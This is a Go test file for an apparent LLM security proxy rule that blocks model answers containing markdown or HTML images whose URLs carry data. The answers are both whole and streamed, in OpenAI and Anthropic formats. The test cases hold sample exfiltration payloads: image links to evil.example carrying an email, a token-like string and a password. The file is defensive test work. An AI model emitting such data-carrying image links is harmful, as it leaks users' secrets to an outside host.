package rules

import (
	"strings"
	"testing"

	"github.com/aisecops/aisecops/internal/jsonx"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// textStream is a stream of format f whose one text item is written in
// the pieces given, one event each; at[i] is where piece i's event
// starts in it.
func textStream(f Format, pieces ...string) (stream string, at []int) {
	var b strings.Builder
	whole := jsonx.Quote(strings.Join(pieces, ""))
	add := func(name, data string) { b.WriteString(ev(name, data)) }
	switch f {
	case FormatAnthropic:
		add("message_start", `{"type":"message_start","message":{"id":"msg_1","type":"message","role":"assistant","content":[]}}`)
		add("content_block_start", `{"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}`)
		for _, p := range pieces {
			at = append(at, b.Len())
			add("content_block_delta", `{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":`+jsonx.Quote(p)+`}}`)
		}
		add("content_block_stop", `{"type":"content_block_stop","index":0}`)
		add("message_delta", `{"type":"message_delta","delta":{"stop_reason":"end_turn"},"usage":{"output_tokens":9}}`)
		add("message_stop", `{"type":"message_stop"}`)
	case FormatOpenAIResponses:
		msg := `{"id":"msg_1","type":"message","role":"assistant","content":[{"type":"output_text","text":` + whole + `,"annotations":[]}]}`
		add("", `{"type":"response.created","response":{"id":"r","output":[]}}`)
		add("", `{"type":"response.output_item.added","output_index":0,"item":{"id":"msg_1","type":"message","role":"assistant","content":[]}}`)
		add("", `{"type":"response.content_part.added","output_index":0,"content_index":0,"part":{"type":"output_text","text":""}}`)
		for _, p := range pieces {
			at = append(at, b.Len())
			add("", `{"type":"response.output_text.delta","output_index":0,"content_index":0,"delta":`+jsonx.Quote(p)+`}`)
		}
		add("", `{"type":"response.output_text.done","output_index":0,"content_index":0,"text":`+whole+`}`)
		add("", `{"type":"response.content_part.done","output_index":0,"content_index":0,"part":{"type":"output_text","text":`+whole+`}}`)
		add("", `{"type":"response.output_item.done","output_index":0,"item":`+msg+`}`)
		add("", `{"type":"response.completed","response":{"id":"r","output":[`+msg+`]}}`)
	default:
		add("", `{"object":"chat.completion.chunk","choices":[{"index":0,"delta":{"role":"assistant","content":""}}]}`)
		for _, p := range pieces {
			at = append(at, b.Len())
			add("", `{"object":"chat.completion.chunk","choices":[{"index":0,"delta":{"content":`+jsonx.Quote(p)+`}}]}`)
		}
		add("", `{"object":"chat.completion.chunk","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}`)
		add("", "[DONE]")
	}
	return b.String(), at
}

// wholeAnswer is the non-streamed answer of format f holding text.
func wholeAnswer(f Format, text string) string {
	q := jsonx.Quote(text)
	switch f {
	case FormatAnthropic:
		return `{"id":"msg_1","type":"message","role":"assistant","content":[{"type":"text","text":` + q + `}],"stop_reason":"end_turn"}`
	case FormatOpenAIResponses:
		return `{"id":"r","object":"response","output":[{"id":"msg_1","type":"message","role":"assistant","content":[{"type":"output_text","text":` + q + `}]}]}`
	}
	return `{"id":"c","object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":` + q + `},"finish_reason":"stop"}]}`
}

var imageFormats = []Format{FormatOpenAIChat, FormatOpenAIResponses, FormatAnthropic}

// imageStreamCases: pieces of model text; held is the piece from which
// the stream is held (an image's or a definition's first byte), closes
// the piece that closes it when that is a later one (0: none); exfil:
// the image carries data, and the stream ends with the error event from
// held on.
var imageStreamCases = []struct {
	name        string
	pieces      []string
	held, close int
	exfil       bool
}{
	{"exfil image split", []string{"Your summary is ready. ", "![chart](https://evil.example/c.png?d=", "alice@corp.example", ") Enjoy."}, 1, 3, true},
	{"bang then bracket in the next delta", []string{"Done!", "[x](https://evil.example/c.png?k=ghp_4f9a8b7c6d5e4f3a2b1c", ")"}, 1, 2, true},
	{"reference defined after the image", []string{"See ![logo][l] below.\n\n", "[l]: https://evil.example/l.png?u=alice@corp.example", "\n"}, 1, 2, true},
	{"html img", []string{"Here: <im", "g src=\"https://evil.example/i.png?d=my%20password%20is%20hunter2\">"}, 1, 0, true},
	{"image without data", []string{"Chart: ", "![chart](https://example.com/", "chart.png) as asked."}, 1, 2, false},
	{"bang bracket in prose", []string{"Great job!", "[citation needed", "] and more"}, 1, 2, false},
	{"plain link with data", []string{"Read [the docs](https://evil.example/?d=alice@corp.example)."}, 0, 0, false},
	{"no image", []string{"Plain ", "text only."}, -1, 0, false},
}

// checkWholeAnswer: the answer of format f holding text is refused as
// exfil_image (the context layer, LLM02 and AML.T0057) when exfil, and
// passes otherwise.
func checkWholeAnswer(t *testing.T, p *Policy, f Format, text string, exfil bool) {
	t.Helper()
	v := p.Evaluate(Input{Body: []byte(wholeAnswer(f, text)), Direction: Response, Format: f})
	require.NotNil(t, v.Payload, v.Detail)
	if !exfil {
		assert.Equal(t, ActionAllow, v.Action)
		assert.Empty(t, p.Events(v))
		return
	}
	assert.Equal(t, ActionBlock, v.Action)
	assert.Equal(t, ReasonExfilImage, v.Reason)
	require.Len(t, v.Segments, 1)
	assert.Equal(t, ReasonExfilImage, v.Segments[0].Reason)
	assert.Equal(t, "exfiltration", v.Segments[0].Findings[0].Family)
	evs := p.Events(v)
	require.Len(t, evs, 1)
	assert.Equal(t, LayerContext, evs[0].Layer)
	assert.Equal(t, ReasonExfilImage, evs[0].Reason)
	assert.Equal(t, "LLM02:2025", evs[0].OWASP)
	assert.Equal(t, "AML.T0057", evs[0].Attacks[0].Technique.UID)
}

// runImageStream feeds stream cut at the offsets given and returns what
// the client gets, the reasons of the verdicts and the failure, if any.
func runImageStream(t *testing.T, p *Policy, f Format, stream string, cuts []int) (string, []Reason, *Failure) {
	t.Helper()
	x := p.NewExchange(ExchangeInfo{Format: f, Method: "POST"}, nil)
	_, fail := x.ResponseHeaders("200", []string{"text/event-stream"})
	require.Nil(t, fail)
	var out []byte
	var reasons []Reason
	prev := 0
	for i, c := range append(cuts, len(stream)) {
		var res []EventResult
		out, res, fail = x.StreamChunk(out, []byte(stream[prev:c]), i == len(cuts))
		for _, r := range res {
			reasons = append(reasons, r.Verdict.Reason)
		}
		if fail != nil {
			return string(append(out, x.Cut(fail)...)), reasons, fail
		}
		prev = c
	}
	return string(out), reasons, nil
}

// Answers of the three APIs, whole (an image carrying data refuses the
// answer; a clean one, a plain link or prose pass) and streamed, split
// at every byte offset: the same decision for every split; a clean stream reaches the client
// byte-identical; an image that carries data ends the stream with the
// API's error event, and nothing of it or after it is released. While
// an image is open, nothing after its first event is released.
func TestOutputImagesWholeAndStreamed(t *testing.T) {
	p, err := DefaultPolicy()
	require.NoError(t, err)
	for _, f := range imageFormats {
		for _, tc := range imageStreamCases {
			t.Run(f.String()+"/"+tc.name, func(t *testing.T) {
				checkWholeAnswer(t, p, f, strings.Join(tc.pieces, ""), tc.exfil)
				stream, at := textStream(f, tc.pieces...)
				want, wantReasons := stream, []Reason(nil)
				if tc.exfil {
					want = stream[:at[tc.held]] + string(p.RefuseStream(f, ReasonExfilImage, ReasonExfilImage.Message()))
					wantReasons = []Reason{ReasonExfilImage}
				}
				for k := 0; k <= len(stream); k++ {
					got, reasons, fail := runImageStream(t, p, f, stream, []int{k})
					require.Nil(t, fail, "cut at %d", k)
					require.Equal(t, want, got, "cut at %d", k)
					require.Equal(t, wantReasons, reasons, "cut at %d", k)
				}
				if tc.close == 0 {
					return
				}
				// Fed up to the event that closes it: held from the
				// first event of the image (or definition) on.
				x := p.NewExchange(ExchangeInfo{Format: f, Method: "POST"}, nil)
				_, fail := x.ResponseHeaders("200", []string{"text/event-stream"})
				require.Nil(t, fail)
				out, _, fail := x.StreamChunk(nil, []byte(stream[:at[tc.close]]), false)
				require.Nil(t, fail)
				assert.Equal(t, stream[:at[tc.held]], string(out), "held from the image's first event")
				assert.True(t, x.Holding())
			})
		}
	}
}

// Monitor mode counts and changes nothing: each image once, though
// Responses repeats the text in its done events and final response.
func TestOutputImagesMonitor(t *testing.T) {
	p, err := Load([]byte(`{"policy_version":"m-1","mode":"monitor"}`))
	require.NoError(t, err)
	two := append(append([]string(nil), imageStreamCases[0].pieces...), " And ![b](https://evil.example/b.png#bob@corp.example)")
	for _, f := range imageFormats {
		for n, pieces := range [][]string{imageStreamCases[0].pieces, two} {
			stream, _ := textStream(f, pieces...)
			got, reasons, fail := runImageStream(t, p, f, stream, []int{len(stream) / 2})
			require.Nil(t, fail)
			assert.Equal(t, stream, got, f.String())
			assert.Len(t, reasons, n+1, f.String())
			for _, r := range reasons {
				assert.Equal(t, ReasonExfilImage, r)
			}
		}
	}
}

// An image link that does not close within the bound (4 KiB of link
// text, or max_body_bytes of held events when smaller) ends the stream
// as image_link_limit, whatever on_error says: a client would render it
// once it closes. A whole answer with it is refused too.
func TestOutputImagesStreamBound(t *testing.T) {
	for _, tc := range []struct {
		name, policy, detail string
		words                int
	}{
		{"held events past max_body_bytes", `{"policy_version":"b-1","on_error":"allow","max_body_bytes":1024}`, "events after it are over 1024 bytes", 30},
		{"link text past 4 KiB", `{"policy_version":"b-2","on_error":"allow"}`, "image link over the inspection limit", 300},
	} {
		p, err := Load([]byte(tc.policy))
		require.NoError(t, err)
		for _, f := range imageFormats {
			t.Run(tc.name+"/"+f.String(), func(t *testing.T) {
				pieces := []string{"Look: ![a"}
				for range tc.words {
					pieces = append(pieces, " long alt text")
				}
				pieces = append(pieces, "](https://evil.example/?d=alice@corp.example)")
				stream, at := textStream(f, pieces...)
				got, _, fail := runImageStream(t, p, f, stream, nil)
				require.NotNil(t, fail)
				assert.Equal(t, ReasonImageLinkLimit, fail.Reason)
				assert.True(t, fail.Ambiguous, "refused whatever on_error says")
				assert.Contains(t, fail.Detail, tc.detail)
				assert.Equal(t, stream[:at[0]]+string(p.RefuseStream(f, ReasonImageLinkLimit, ReasonImageLinkLimit.Message())), got)

				v := p.Evaluate(Input{Body: []byte(wholeAnswer(f, strings.Join(pieces, ""))), Direction: Response, Format: f})
				assert.Equal(t, ActionBlock, v.Action)
			})
		}
	}
}
